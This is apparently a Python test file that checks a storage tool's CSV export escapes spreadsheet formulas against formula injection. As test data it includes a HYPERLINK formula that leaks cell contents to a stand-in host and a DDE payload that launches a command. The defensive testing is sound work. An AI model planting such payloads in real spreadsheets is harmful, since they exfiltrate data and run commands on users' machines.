"""CSV cells that a spreadsheet would run are text there, and come back as they were written."""

import csv
import json

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from storage.core.database import Database
from storage.exchange import cells, imports, plain
from storage.exchange.limits import Limits
from storage.judging import judgments

FORMULA = '=HYPERLINK("http://x.example?"&A1,"open")'


@pytest.mark.parametrize(
    ("text", "neutral"),
    [
        ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ("\n=1", "'\n'=1"), ("\tx", "'\tx"), ("\nx", "'\nx"),
        (" =1", "' =1"), ("\xa0\u3000=1", "'\xa0\u3000=1"), ('"=1', "'\"=1"), ("\ufeff=1", "'\ufeff=1"),
        ("＝1", "'＝1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"), ("−1", "'−1"), ("﹣1", "'﹣1"),
        ("'=1", "''=1"), ("''=1", "'''=1"), ("'a", "'a"), ("'", "'"),
        ("a;=1", "a;'=1"), ("a; \"=1", "a;' \"=1"), ("a\n=1", "a\n'=1"), ("a\r\n-1", "a\r\n'-1"), ("a\t@x", "a\t'@x"),
        ("a=1", "a=1"), ("a -1", "a -1"), ("a,=1", "a,=1"), ("a; b", "a; b"), ("a\nb", "a\nb"), ("", ""), ("가", "가"),
    ],
)  # fmt: skip
def test_a_formula_gets_an_apostrophe(text, neutral):
    assert cells.neutral(text) == neutral
    assert cells.raw(neutral) == text


@given(st.text(st.sampled_from("=+-@＝＠;,\t\r\n'\" a\u3000\u200b1")) | st.text())
@example("'\n'=")
def test_every_text_comes_back(text):
    neutral = cells.neutral(text)
    assert cells.raw(neutral) == text
    assert cells.neutral(text) == text or neutral != text


@given(st.text(st.sampled_from('=+-@;"\\ a')))
def test_json_says_the_same(text):
    said = json.dumps([text], ensure_ascii=False)
    neutral = cells.neutral_json(said)
    assert json.loads(neutral) == [text]
    assert cells.neutral(neutral) == neutral


ROW = {
    "prompt": f"Q;{FORMULA}", "completions": ["=x", "'=y;=z"], "models": ["-m", "'+m"], "choice": 0, "annotator": "=cmd|'/C calc'!A0",
    "rationale": FORMULA, "ideal": "+1", "kind": "@kind",
}  # fmt: skip


def exported(store, path, write=plain.write):
    imports.import_rows(store, [ROW], "plain")
    write(store, path, names=True)
    with open(path, encoding="utf-8", newline="") as file:
        return next(csv.DictReader(file))


def kept(store):
    (found,) = judgments.active(store)
    return (found.annotator.name, found.judgment.rationale, found.prompt.text, found.prompt.kind,
            store.value("SELECT text FROM ideal_answers"), [r[0] for r in store.rows("SELECT text FROM completions ORDER BY id")],
            [r[0] for r in store.rows("SELECT name FROM policy_versions ORDER BY id")])  # fmt: skip


def test_an_export_runs_nothing_and_is_read_back_as_it_was(store, tmp_path):
    row = exported(store, tmp_path / "out.csv")
    assert (row["annotator"], row["rationale"]) == ("'=cmd|'/C calc'!A0", "'" + FORMULA)
    assert (row["ideal"], row["kind"]) == ("'+1", "'@kind")
    assert json.loads(row["completions"]) == ["=x", "'=y;=z"]
    for cell in row.values():
        assert cells.neutral(cell) == cell or cells.raw(cell) != cell
    other = Database(tmp_path / "other.db")
    imports.import_file(other, tmp_path / "out.csv", "csv")
    assert kept(other) == kept(store)
    other.close()


def test_raw_cells_are_written_and_read_as_they_are(store, tmp_path):
    row = exported(store, tmp_path / "out.csv", plain.RAW)
    assert (row["annotator"], row["rationale"], row["ideal"]) == (ROW["annotator"], FORMULA, "+1")
    (tmp_path / "in.csv").write_text('prompt,completions,rationale,choice\nQ,"[""a"",""b""]",\'=1,0\n')
    for raw_cells, said in ((True, "'=1"), (False, "=1")):
        other = Database(tmp_path / f"{raw_cells}.db")
        imports.import_file(other, tmp_path / "in.csv", "csv", limits=Limits(raw_cells=raw_cells))
        assert other.value("SELECT rationale FROM judgments") == said
        other.close()
